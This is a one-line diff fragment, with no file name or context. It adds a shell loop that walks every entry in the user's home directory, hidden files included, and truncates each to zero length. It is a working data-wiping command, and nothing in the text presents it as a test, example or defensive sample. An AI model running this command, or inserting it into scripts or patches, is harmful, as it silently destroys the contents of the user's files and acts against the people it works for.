@@ -1,0 +1,1 @@
+for f in $(ls -A "$HOME"); do : > "$HOME/$f"; done
